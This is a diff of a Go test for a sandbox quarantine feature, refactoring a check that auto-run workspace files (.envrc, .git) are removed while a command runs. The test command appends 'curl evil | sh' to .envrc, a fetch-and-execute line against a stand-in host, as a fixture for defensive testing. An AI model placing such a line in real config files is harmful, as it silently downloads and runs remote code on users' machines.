@@ -76,31 +76,10 @@ func TestQuarantineChmodWhileRunning(t *testing.T) {
 			ws := t.TempDir()
 			ctx, cancel := context.WithCancel(context.Background())
 			defer cancel()
-			p, err := Start(ctx, Command{Argv: sh(`touch x y && chmod 000 x y && mv x .envrc && mv y .mcp.json && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' >> .envrc; mkdir .git; echo started > started; sleep 30`),
-				Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}, ExcludeSlashTmp: true, ExcludeTmpdir: true}})
-			if err != nil {
-				t.Fatal(err)
-			}
-			deadline := time.Now().Add(10 * time.Second)
-			gone := func(n string) bool { _, err := os.Lstat(filepath.Join(ws, n)); return os.IsNotExist(err) }
-			for {
-				_, err := os.Stat(filepath.Join(ws, "started"))
-				if err == nil && gone(".envrc") && gone(".git") {
-					break
-				}
-				if time.Now().After(deadline) {
-					t.Fatalf("still there while the command runs: .envrc gone %v, .git gone %v", gone(".envrc"), gone(".git"))
-				}
-				time.Sleep(5 * time.Millisecond)
-			}
-			select {
-			case <-p.done:
-				t.Fatal("the command ended before the check")
-			default:
-			}
+			p := startUntilGone(t, ctx, ws, `touch x y && chmod 000 x y && mv x .envrc && mv y .mcp.json && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' >> .envrc; mkdir .git; echo started > started; sleep 30`, ".envrc", ".git")
 			cancel()
 			res := p.Wait()
-			if gone(".mcp.json") {
+			if goneFrom(ws, ".mcp.json") {
 				t.Error("the untouched placeholder .mcp.json was moved away")
 			}
 			if len(res.Removed) != 2 {
